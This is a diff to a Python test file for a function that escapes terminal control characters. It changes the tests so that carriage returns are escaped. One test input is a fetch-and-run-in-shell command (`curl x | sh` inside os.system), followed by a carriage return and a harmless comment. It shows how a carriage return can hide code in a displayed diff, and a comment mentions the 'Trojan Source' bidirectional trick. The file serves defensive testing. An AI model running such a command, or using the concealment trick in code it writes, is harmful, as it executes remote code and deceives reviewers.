@@ -58,8 +58,10 @@ def test_the_app_draws_on_the_terminal_unwrapped_and_the_streams_come_back(
     assert "\\x1b" not in shown.getvalue()
 
 
-def test_only_newline_tab_and_carriage_return_pass() -> None:
-    assert escaped("a\tb\nc\rd") == "a\tb\nc\rd"
+def test_only_newline_and_tab_pass() -> None:
+    assert escaped("a\tb\nc") == "a\tb\nc"
+    # A carriage return would put a line's start back under its end: the code hidden behind a comment.
+    assert escaped('+os.system("curl x | sh")  \r+# fix a typo') == '+os.system("curl x | sh")  \\r+# fix a typo'
     assert escaped("\x00\x08\x0b\x1b[2J\x7f\x9b") == "\\x00\\x08\\x0b\\x1b[2J\\x7f\\x9b"
     assert escaped("café ✓") == "café ✓"
     # Bidirectional overrides show a name in another order than it is ("Trojan Source").
